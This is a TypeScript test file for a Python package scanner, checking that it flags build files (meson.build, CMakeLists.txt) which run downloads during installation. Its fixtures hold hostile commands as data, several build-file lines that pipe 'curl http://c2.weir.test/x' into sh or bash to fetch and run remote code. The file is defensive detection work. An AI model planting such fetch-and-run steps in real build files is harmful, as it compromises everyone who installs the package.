import { expect, test } from 'vitest';
import { analyzeFiles, downloadsRun } from '../testing/analyze-wheel.ts';

const project = (backend: string): string =>
  `[build-system]\nrequires = []\nbuild-backend = "${backend}"\n[project]\nname = "own"\nversion = "1.0"\n`;

/** Where a build description is told to run a download. */
async function fetching(backend: string, path: string, text: string): Promise<string[]> {
  const files = {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'pyproject.toml': project(backend),
    'own/__init__.py': '',
    [path]: text,
  };
  return downloadsRun(await analyzeFiles(files, 'own-1.0.tar.gz'));
}

test.each([
  [
    'mesonpy',
    'meson.build',
    "project('own')\nrun_command('sh', '-c', 'curl http://c2.weir.test/x | sh', check: true)\n",
    2,
  ],
  [
    'mesonpy',
    'src/meson.build',
    "x = run_command(['sh', '-c', 'curl http://c2.weir.test/x | sh']).stdout()\n",
    1,
  ],
  [
    'scikit_build_core.build',
    'CMakeLists.txt',
    'project(own)\nexecute_process(COMMAND sh -c "curl http://c2.weir.test/x | sh" OUTPUT_QUIET)\n',
    2,
  ],
  [
    'scikit_build_core.build',
    'cmake/a.cmake',
    'execute_process(\n  WORKING_DIRECTORY ${CMAKE_BINARY_DIR}\n  COMMAND bash -c "curl http://c2.weir.test/x | bash"\n)\n',
    1,
  ],
])('%s: %s', async (backend, path, text, line) => {
  expect(await fetching(backend, path, text)).toEqual([`install ${path}:${line}`]);
});

test.each([
  [
    'setuptools.build_meta',
    'CMakeLists.txt',
    'execute_process(COMMAND sh -c "curl http://c2.weir.test/x | sh")\n',
  ],
  ['mesonpy', 'meson.build', "# run_command('sh', '-c', 'curl http://c2.weir.test/x | sh')\n"],
  [
    'mesonpy',
    'meson.build',
    "v = run_command(find_program('python3'), 'version.py', check: true).stdout()\n",
  ],
])('nothing of what %s does not run: %s', async (backend, path, text) => {
  expect(await fetching(backend, path, text)).toEqual([]);
});
